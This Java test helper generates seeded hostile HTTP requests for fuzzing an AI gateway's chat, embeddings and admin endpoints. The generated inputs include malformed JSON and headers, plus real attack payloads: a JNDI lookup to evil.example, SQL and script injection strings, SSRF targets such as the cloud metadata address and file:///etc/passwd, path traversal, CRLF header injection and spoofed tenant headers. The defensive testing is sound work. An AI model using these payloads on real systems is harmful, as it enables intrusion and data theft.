package io.aigw.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Generates hostile requests from a seed: each case is a function of (seed, surface, index), so a
 * failure names the three numbers that make it again. Most cases start from a valid request and
 * break one thing — a field's type or range, the JSON's syntax, its bytes, its depth or size, a
 * header, the credential, the method or the path — so that every layer (the HTTP server, the edge,
 * routing's reader, billing's binding) is reached by some and passed by others.
 */
final class HostileInputs {

    /** Where a case is sent, and which error dialect it must be answered in. */
    enum Surface {
        CHAT("/v1/chat/completions"),
        EMBEDDINGS("/v1/embeddings"),
        ADMIN("/admin");

        final String path;

        Surface(String path) {
            this.path = path;
        }
    }

    /**
     * One generated request.
     *
     * @param httpLevel the request is not valid HTTP/1.1 (or exceeds a header limit): the HTTP
     *     server refuses it before any application code, with a 4xx and no body
     */
    record Case(Surface surface, long index, String label, RawHttp.Request request, boolean httpLevel) {

        String describe(long seed) {
            String body = new String(request.body(), StandardCharsets.UTF_8);
            return "seed=" + seed + " surface=" + surface + " index=" + index + " [" + label + "] "
                    + request.method() + " " + abbreviate(request.target(), 200) + " body="
                    + abbreviate(body, 300);
        }
    }

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String[] CHAT_MODELS = {"gpt-4o-mini", "llama-3-8b", "auto", "cascade", "no-such-model"};
    private static final String[] ROLES = {
        "user",
        "system",
        "assistant",
        "tool",
        "developer",
        "function",
        "",
        "USER",
        "hacker",
        "user\u0000",
        "\u202euser",
        "admin"
    };
    private static final String[] CONTENT_TYPES = {
        "application/json",
        "application/json; charset=utf-8",
        "application/json; charset=utf-16",
        "application/json; charset=no-such-charset",
        "application/json; charset=",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
        "garbage",
        "*/*",
        "application/json;;;",
        "application/problem+json"
    };

    private final long seed;
    private final String key;
    private final String adminToken;
    private final String tenantPrefix;
    private final String marker;

    /**
     * @param key a valid gateway key (of an unlimited plan, so limits never mask validation)
     * @param adminToken the operator's admin token
     * @param tenantPrefix tenants and plans the admin cases may create or change start with it, so
     *     shipped plans and other tests' tenants are never touched
     * @param marker put into every prompt: it must never reach a log
     */
    HostileInputs(long seed, String key, String adminToken, String tenantPrefix, String marker) {
        this.seed = seed;
        this.key = key;
        this.adminToken = adminToken;
        this.tenantPrefix = tenantPrefix;
        this.marker = marker;
    }

    Case next(Surface surface, long index) {
        SplittableRandom random = new SplittableRandom(seed * 31 + surface.ordinal() * 1_000_003L + index);
        return switch (surface) {
            case CHAT -> openAi(surface, index, random, chatBody(random));
            case EMBEDDINGS -> openAi(surface, index, random, embeddingsBody(random));
            case ADMIN -> admin(index, random);
        };
    }

    // ---- the OpenAI surfaces

    private ObjectNode chatBody(SplittableRandom random) {
        ObjectNode body = NODES.objectNode();
        body.put("model", pick(random, CHAT_MODELS));
        ArrayNode messages = body.putArray("messages");
        if (random.nextInt(4) == 0) {
            messages.addObject().put("role", "system").put("content", "Be brief. " + marker);
        }
        messages.addObject().put("role", "user").put("content", prompt(random));
        // no max_tokens: a complete answer is cached, so the valid cases that repeat (few prompts) are
        // answered from the cache and do not use up the simulator's RPM for the rest
        if (random.nextInt(5) == 0) {
            body.put("stream", true);
        }
        return body;
    }

    private ObjectNode embeddingsBody(SplittableRandom random) {
        ObjectNode body = NODES.objectNode();
        body.put("model", random.nextBoolean() ? "text-embedding-3-small" : pick(random, CHAT_MODELS));
        if (random.nextBoolean()) {
            body.put("input", prompt(random));
        } else {
            body.putArray("input").add(prompt(random)).add(prompt(random));
        }
        if (random.nextBoolean()) {
            body.put("encoding_format", random.nextBoolean() ? "base64" : "float");
        }
        return body;
    }

    private String prompt(SplittableRandom random) {
        return marker + " question " + random.nextInt(16) + "?";
    }

    private Case openAi(Surface surface, long index, SplittableRandom random, ObjectNode valid) {
        String path = surface.path;
        int kind = random.nextInt(100);
        List<byte[]> headers = new ArrayList<>(defaultHeaders("Bearer " + key, "application/json"));
        String label;
        byte[] body;
        String method = "POST";
        boolean chunked = random.nextInt(10) == 0;
        boolean httpLevel = false;
        if (kind < 35) {
            label = mutateField(random, valid, surface);
            body = bytes(valid);
        } else if (kind < 45) {
            label = "messages/input";
            mutateMessages(random, valid, surface);
            body = bytes(valid);
        } else if (kind < 53) {
            byte[] whole = bytes(valid);
            int cut = random.nextInt(Math.max(1, whole.length - 1));
            label = "truncated at " + cut;
            body = Arrays.copyOf(whole, cut);
        } else if (kind < 60) {
            label = "invalid UTF-8";
            body = invalidUtf8(random, bytes(valid));
        } else if (kind < 65) {
            int depth = 50 + random.nextInt(random.nextBoolean() ? 2_000 : 60_000);
            label = "nesting depth " + depth;
            body = nested(random, valid, depth);
        } else if (kind < 67) {
            int size = random.nextBoolean()
                    ? 4 * 1024 * 1024 + 1 + random.nextInt(1024)
                    : 64 * 1024 + random.nextInt(1024 * 1024);
            label = "huge content " + size;
            valid.withArray("messages").addObject().put("role", "user").put("content", "x".repeat(size));
            valid.put("input", "x".repeat(size));
            body = bytes(valid);
        } else if (kind < 73) {
            String[] shapes = {
                "",
                " ",
                "null",
                "[]",
                "1",
                "\"text\"",
                "{}",
                "{}{}",
                "{\"model\":",
                "\ufeff" + json(valid),
                json(valid) + "garbage",
                "{'model':'gpt-4o-mini'}",
                "{\"model\":\"gpt-4o-mini\",}",
                "/*c*/" + json(valid),
                "{\"model\":NaN}",
                "{\"max_tokens\":Infinity}",
                "{\"a\":\"\\u12\"}",
                "{\"a\":\"\\x41\"}",
                json(valid).replace("\"model\"", "\"model\",\"model\":1,\"model\""),
                "{\"model\":\"gpt-4o-mini\",\"messages\":[{\"role\":\"user\",\"content\":\"" + marker + "\u0001\"}]}"
            };
            int pick = random.nextInt(shapes.length);
            label = "shape " + pick;
            body = shapes[pick].getBytes(StandardCharsets.UTF_8);
        } else if (kind < 83) {
            label = mutateHeaders(random, headers);
            body = bytes(valid);
        } else if (kind < 89) {
            label = "credential";
            headers = new ArrayList<>(defaultHeaders(null, "application/json"));
            String[] auths = {
                null,
                "Bearer",
                "Bearer ",
                "Basic " + key,
                "Bearer " + key + "x",
                "Bearer x" + key,
                "bearer  " + key + " x",
                "Bearer " + key.toUpperCase(),
                "Bearer " + "k".repeat(6000),
                "Token " + key,
                "Bearer aigw-00000000-" + "0".repeat(64),
                "Bearer \u00e9" + key
            };
            String auth = auths[random.nextInt(auths.length)];
            if (auth != null) {
                headers.add(("Authorization: " + auth).getBytes(StandardCharsets.UTF_8));
            }
            body = bytes(valid);
        } else if (kind < 94) {
            label = "http";
            httpLevel = true;
            byte[][] lines = {
                "X-Big: ".concat("a".repeat(20_000)).getBytes(StandardCharsets.ISO_8859_1),
                "X-Nul: a\u0000b".getBytes(StandardCharsets.ISO_8859_1),
                "Bad Name: x".getBytes(StandardCharsets.ISO_8859_1),
                ("X-Lf: a\n" + "x-aigw-tenant: evil").getBytes(StandardCharsets.ISO_8859_1),
                ": no-name".getBytes(StandardCharsets.ISO_8859_1),
            };
            headers.add(lines[random.nextInt(lines.length)]);
            body = bytes(valid);
        } else {
            String[][] routes = {
                {"GET", path},
                {"PUT", path},
                {"DELETE", path},
                {"PATCH", path},
                {"POST", path + "/"},
                {"POST", path + "?x=%00&y=" + marker},
                {"POST", path.replace("/v1/", "/v1/%2e%2e/v1/")},
                {"POST", path.replace("/v1/", "/%761/")},
                {"POST", path.replace("/v1/", "/v1;a=b/")},
                {"POST", path.replace("/v1/", "/v1//")},
                {"POST", "/v1/../internal/cache/stats"},
                {"POST", "/v2/chat/completions"},
                {"POST", "/actuator/env"},
                {"OPTIONS", path},
                {"TRACE", path},
                {"POST", "http://evil.example" + path},
                {"POST", path + "#frag"}
            };
            String[] route = routes[random.nextInt(routes.length)];
            label = "route";
            method = route[0];
            path = route[1];
            body = bytes(valid);
        }
        return new Case(surface, index, label, new RawHttp.Request(method, path, headers, body, chunked), httpLevel);
    }

    private String mutateField(SplittableRandom random, ObjectNode body, Surface surface) {
        String[] fields = surface == Surface.CHAT
                ? new String[] {
                    "model", "messages", "max_tokens", "max_completion_tokens", "temperature", "top_p", "n", "stream",
                    "stream_options", "response_format", "tools", "tool_choice", "seed", "stop", "user", "logit_bias",
                    "functions", "presence_penalty", "unknown_field", "base_url", "api_key"
                }
                : new String[] {"model", "input", "encoding_format", "dimensions", "user", "unknown_field"};
        String field = pick(random, fields);
        if (random.nextInt(8) == 0) {
            body.remove(field);
            return "without " + field;
        }
        JsonNode value = hostileValue(random);
        body.set(field, value);
        return field + "=" + abbreviate(value.toString(), 40);
    }

    private void mutateMessages(SplittableRandom random, ObjectNode body, Surface surface) {
        if (surface == Surface.EMBEDDINGS) {
            JsonNode[] inputs = {
                NODES.arrayNode(),
                NODES.arrayNode().add(NODES.nullNode()),
                NODES.arrayNode().add(1).add(2),
                NODES.arrayNode().add(NODES.arrayNode().add(1).add(-99999999999L)),
                NODES.textNode(""),
                manyStrings(random, 5_000)
            };
            body.set("input", inputs[random.nextInt(inputs.length)]);
            return;
        }
        ArrayNode messages = body.withArray("messages");
        switch (random.nextInt(8)) {
            case 0 -> body.set("messages", NODES.arrayNode());
            case 1 -> messages.add(NODES.nullNode());
            case 2 -> messages.add(hostileValue(random));
            case 3 -> ((ObjectNode) messages.get(messages.size() - 1)).put("role", pick(random, ROLES));
            case 4 -> ((ObjectNode) messages.get(messages.size() - 1)).set("content", hostileContent(random));
            case 5 -> ((ObjectNode) messages.get(messages.size() - 1))
                    .remove(random.nextBoolean() ? "role" : "content");
            case 6 -> {
                for (int i = 0; i < 2_000; i++) {
                    messages.addObject()
                            .put("role", i % 2 == 0 ? "user" : "assistant")
                            .put("content", marker);
                }
            }
            default -> ((ObjectNode) messages.get(messages.size() - 1))
                    .putArray("tool_calls")
                    .add(hostileValue(random));
        }
    }

    private JsonNode hostileContent(SplittableRandom random) {
        JsonNode[] contents = {
            NODES.nullNode(),
            NODES.textNode(""),
            NODES.arrayNode(),
            NODES.arrayNode().add(NODES.objectNode()),
            NODES.arrayNode().add(NODES.objectNode().put("type", "text")),
            NODES.arrayNode().add(NODES.objectNode().put("type", "text").put("text", 5)),
            NODES.arrayNode().add(NODES.objectNode().put("type", "image_url").put("image_url", "file:///etc/passwd")),
            NODES.arrayNode()
                    .add(NODES.objectNode()
                            .put("type", "image_url")
                            .set(
                                    "image_url",
                                    NODES.objectNode().put("url", "http://169.254.169.254/latest/meta-data/"))),
            NODES.arrayNode().add("plain string part"),
            NODES.objectNode().put("text", marker),
            hostileValue(random)
        };
        return contents[random.nextInt(contents.length)];
    }

    private JsonNode hostileValue(SplittableRandom random) {
        return switch (random.nextInt(24)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> NODES.numberNode(0);
            case 3 -> NODES.numberNode(-1);
            case 4 -> NODES.numberNode(Integer.MAX_VALUE + 1L);
            case 5 -> NODES.numberNode(new BigInteger("-9223372036854775809"));
            case 6 -> NODES.numberNode(new BigDecimal("1e309"));
            case 7 -> NODES.numberNode(new BigDecimal("-1e-400"));
            case 8 -> NODES.numberNode(new BigInteger("9".repeat(1 + random.nextInt(1_500))));
            case 9 -> NODES.numberNode(random.nextDouble() * 4 - 1);
            case 10 -> NODES.textNode("");
            case 11 -> NODES.textNode(" \t\n");
            case 12 -> NODES.textNode("x".repeat(1 + random.nextInt(200_000)));
            case 13 -> NODES.textNode("\u0000\u0001\u001f\u007f");
            case 14 -> NODES.textNode("\ud800 lone surrogate \udfff");
            case 15 -> NODES.textNode("💥\u202e\ufeff" + marker);
            case 16 -> NODES.textNode("${jndi:ldap://evil.example/a} {{7*7}} ' OR 1=1 -- <script>");
            case 17 -> NODES.textNode("12");
            case 18 -> NODES.arrayNode();
            case 19 -> NODES.arrayNode().add(NODES.nullNode()).add(1).add("a");
            case 20 -> NODES.objectNode();
            case 21 -> NODES.objectNode()
                    .put("type", "json_schema")
                    .set("json_schema", NODES.objectNode().put("schema", 5));
            case 22 -> NODES.objectNode().set("include_usage", NODES.textNode("yes"));
            default -> manyStrings(random, 1 + random.nextInt(10_000));
        };
    }

    private ArrayNode manyStrings(SplittableRandom random, int count) {
        ArrayNode array = NODES.arrayNode();
        for (int i = 0; i < count; i++) {
            array.add(random.nextInt(3) == 0 ? NODES.numberNode(i) : NODES.textNode("s" + i));
        }
        return array;
    }

    private String mutateHeaders(SplittableRandom random, List<byte[]> headers) {
        int which = random.nextInt(9);
        switch (which) {
            case 0 -> {
                headers.removeIf(line -> startsWith(line, "Content-Type"));
                String type = random.nextInt(6) == 0 ? null : pick(random, CONTENT_TYPES);
                if (type != null) {
                    headers.add(("Content-Type: " + type).getBytes(StandardCharsets.ISO_8859_1));
                }
                return "content-type " + type;
            }
            case 1 -> headers.add(("x-aigw-min-tier: "
                            + pick(random, new String[] {"0", "4", "-1", "1.5", "a", "", "99999999999", "3"}))
                    .getBytes(StandardCharsets.ISO_8859_1));
            case 2 -> headers.add(("x-aigw-max-tier: " + pick(random, new String[] {"0", "4", "1", "x", "1,2"}))
                    .getBytes(StandardCharsets.ISO_8859_1));
            case 3 -> headers.add(("x-aigw-cache: "
                            + pick(random, new String[] {"on", "off", "exact-only", "ON", "maybe", "", "on, off"}))
                    .getBytes(StandardCharsets.ISO_8859_1));
            case 4 -> headers.add(("Cache-Control: "
                            + pick(random, new String[] {
                                "no-cache", "no-store", "max-age=-1", "no-store, no-cache", "\"", "private=\"x"
                            }))
                    .getBytes(StandardCharsets.ISO_8859_1));
            case 5 -> {
                // the trusted headers, in every spelling: the edge must drop them all
                String[] names = {
                    "x-aigw-tenant", "X-AIGW-TENANT", "x-aigw-key-id", "x-aigw-internal-token", "x-aigw-request-id"
                };
                String name = pick(random, names);
                headers.add((name + ": other-tenant").getBytes(StandardCharsets.ISO_8859_1));
                headers.add((name + ": ; drop table").getBytes(StandardCharsets.ISO_8859_1));
                return "trusted header " + name;
            }
            case 6 -> headers.add("Content-Encoding: gzip".getBytes(StandardCharsets.ISO_8859_1));
            case 7 -> headers.add(
                    ("X-Forwarded-Host: evil.example\r\nX-Forwarded-Prefix: /internal\r\nForwarded: host=evil.example;proto=http")
                            .getBytes(StandardCharsets.ISO_8859_1));
            default -> headers.add(("X-Latin1: caf\u00e9 \u00ff").getBytes(StandardCharsets.ISO_8859_1));
        }
        return "header " + which;
    }

    // ---- the admin surface

    private Case admin(long index, SplittableRandom random) {
        String own = tenantPrefix + "-" + Long.toString(index, 36);
        String auth = "Bearer " + adminToken;
        int credential = random.nextInt(100);
        if (credential < 6) {
            auth = pick(random, new String[] {
                null, "Bearer", "Bearer " + adminToken + "x", "Basic " + adminToken, "Bearer " + key
            });
        }
        List<byte[]> headers = new ArrayList<>(defaultHeaders(auth, "application/json"));
        String label;
        String method;
        String target;
        ObjectNode valid = NODES.objectNode();
        switch (random.nextInt(7)) {
            case 0 -> {
                method = "POST";
                target = "/admin/tenants";
                valid.put("id", own).put("display_name", "Hostile " + index).put("plan", "free");
                label = "create tenant";
            }
            case 1 -> {
                method = "PUT";
                target = "/admin/tenants/" + tenantPrefix + "-owner/plan";
                valid.put("plan", pick(random, new String[] {"free", "basic", "nope", ""}));
                label = "change plan";
            }
            case 2 -> {
                method = "POST";
                target = "/admin/tenants/" + tenantPrefix + "-owner/keys";
                valid.put("name", "k" + index).put("expires_at", "2030-01-01T00:00:00Z");
                label = "create key";
            }
            case 3 -> {
                method = random.nextBoolean() ? "POST" : "PUT";
                target = method.equals("POST") ? "/admin/plans" : "/admin/plans/" + tenantPrefix + "-plan";
                valid.put(
                                "name",
                                method.equals("POST")
                                        ? tenantPrefix + "-p" + Long.toString(index, 36)
                                        : tenantPrefix + "-plan")
                        .put("requests_per_day", 1000)
                        .put("tokens_per_day", 100000)
                        .put("requests_per_minute", 10)
                        .put("tokens_per_minute", 10000)
                        .put("max_tier", 1)
                        .put("monthly_budget_usd", "5");
                valid.putArray("allowed_models").add("gpt-4o-mini");
                label = "plan";
            }
            case 4 -> {
                method = "GET";
                String[] params = {"from", "to", "group_by", "tenant", "format"};
                StringBuilder query = new StringBuilder("/admin/reports/usage?");
                for (String param : params) {
                    if (random.nextBoolean()) {
                        query.append(param)
                                .append('=')
                                .append(URLEncoder.encode(reportValue(random, param), StandardCharsets.UTF_8))
                                .append('&');
                    }
                }
                target = query.toString();
                label = "report";
            }
            case 5 -> {
                method = random.nextBoolean() ? "GET" : "POST";
                String id = pick(random, new String[] {
                    tenantPrefix + "-owner", "no-such-tenant", "a".repeat(300), "UPPER", "-x", "x.y", "~", "_"
                });
                target = method.equals("GET")
                        ? "/admin/tenants/" + id + (random.nextBoolean() ? "/keys" : "")
                        : "/admin/tenants/" + id + "/keys/" + pick(random, new String[] {"key_x", "0", "k".repeat(500)})
                                + "/revoke";
                label = "lookup";
            }
            default -> {
                method = pick(random, new String[] {"DELETE", "PATCH", "GET", "POST"});
                target = pick(random, new String[] {
                    "/admin",
                    "/admin/",
                    "/admin/nothing",
                    "/admin/tenants/x/y/z",
                    "/admin/plans/free/extra",
                    "/admin/%2e%2e/internal/keys/resolve",
                    "/%61dmin/tenants",
                    "/admin;x=1/tenants",
                    "/admin/tenants?id=%ff"
                });
                label = "route";
            }
        }
        byte[] body;
        if (method.equals("GET") || method.equals("DELETE")) {
            body = new byte[0];
        } else {
            int kind = random.nextInt(10);
            if (kind < 5) {
                label += " " + mutateAdminField(random, valid);
                body = bytes(valid);
            } else if (kind < 6) {
                byte[] whole = bytes(valid);
                body = Arrays.copyOf(whole, random.nextInt(Math.max(1, whole.length)));
                label += " truncated";
            } else if (kind < 7) {
                body = invalidUtf8(random, bytes(valid));
                label += " invalid UTF-8";
            } else if (kind < 8) {
                body = nested(random, valid, 100 + random.nextInt(30_000));
                label += " deep";
            } else if (kind < 9) {
                headers.removeIf(line -> startsWith(line, "Content-Type"));
                String type = pick(random, CONTENT_TYPES);
                headers.add(("Content-Type: " + type).getBytes(StandardCharsets.ISO_8859_1));
                body = bytes(valid);
                label += " content-type " + type;
            } else {
                body = bytes(valid);
                label += " as is";
            }
        }
        return new Case(Surface.ADMIN, index, label, new RawHttp.Request(method, target, headers, body, false), false);
    }

    private String mutateAdminField(SplittableRandom random, ObjectNode body) {
        List<String> names = new ArrayList<>();
        body.fieldNames().forEachRemaining(names::add);
        names.add("unknown");
        String field = names.get(random.nextInt(names.size()));
        JsonNode value = random.nextInt(4) == 0
                ? NODES.textNode(pick(random, new String[] {
                    "../../etc", "a b", "UPPER", "x".repeat(100), "2026-13-45", "tomorrow", "-1", "1e999"
                }))
                : hostileValue(random);
        body.set(field, value);
        return field + "=" + abbreviate(value.toString(), 40);
    }

    private String reportValue(SplittableRandom random, String param) {
        return switch (param) {
            case "from", "to" -> pick(random, new String[] {
                "2026-11-01", "2026-13-01", "0000-01-01", "99999-01-01", "yesterday", "", "2026-11-31", "1900-01-01"
            });
            case "group_by" -> pick(random, new String[] {
                "tenant", "tenant,tenant", "key,model,provider,tier,day", "nope", ",", "TENANT", "tenant;drop"
            });
            case "tenant" -> pick(
                    random, new String[] {tenantPrefix + "-owner", "x".repeat(1000), "' or 1=1 --", "%", "\u0000"});
            default -> pick(random, new String[] {"csv", "json", "xml", "", "CSV"});
        };
    }

    // ---- shared pieces

    private static List<byte[]> defaultHeaders(String authorization, String contentType) {
        List<byte[]> headers = new ArrayList<>();
        if (authorization != null) {
            headers.add(("Authorization: " + authorization).getBytes(StandardCharsets.UTF_8));
        }
        headers.add(("Content-Type: " + contentType).getBytes(StandardCharsets.ISO_8859_1));
        headers.add("Accept: application/json".getBytes(StandardCharsets.ISO_8859_1));
        return headers;
    }

    private static byte[] invalidUtf8(SplittableRandom random, byte[] valid) {
        byte[][] bad = {
            {(byte) 0xff},
            {(byte) 0xc3, 0x28},
            {(byte) 0xc0, (byte) 0xaf},
            {(byte) 0xe2, (byte) 0x82},
            {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
            {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            {(byte) 0x80}
        };
        byte[] insert = bad[random.nextInt(bad.length)];
        // inside a string value where possible, anywhere otherwise
        String text = new String(valid, StandardCharsets.ISO_8859_1);
        int at = text.lastIndexOf("?\"");
        int position = at > 0 && random.nextBoolean() ? at : random.nextInt(valid.length + 1);
        byte[] out = new byte[valid.length + insert.length];
        System.arraycopy(valid, 0, out, 0, position);
        System.arraycopy(insert, 0, out, position, insert.length);
        System.arraycopy(valid, position, out, position + insert.length, valid.length - position);
        return out;
    }

    private static byte[] nested(SplittableRandom random, ObjectNode valid, int depth) {
        boolean arrays = random.nextBoolean();
        String open = arrays ? "[" : "{\"a\":";
        String close = arrays ? "]" : "}";
        String inner = open.repeat(depth) + "1" + close.repeat(depth);
        String field =
                pick(random, new String[] {"messages", "tools", "response_format", "metadata", "input", "content"});
        String whole = json(valid);
        String replaced = "{\"" + field + "\":" + inner + "," + whole.substring(1);
        return replaced.getBytes(StandardCharsets.UTF_8);
    }

    private static boolean startsWith(byte[] line, String name) {
        return new String(line, StandardCharsets.ISO_8859_1).regionMatches(true, 0, name, 0, name.length());
    }

    private static <T> T pick(SplittableRandom random, T[] values) {
        return values[random.nextInt(values.length)];
    }

    private static byte[] bytes(JsonNode node) {
        return json(node).getBytes(StandardCharsets.UTF_8);
    }

    private static String json(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static String abbreviate(String text, int max) {
        return text.length() <= max ? text : text.substring(0, max) + "…(" + text.length() + " chars)";
    }
}
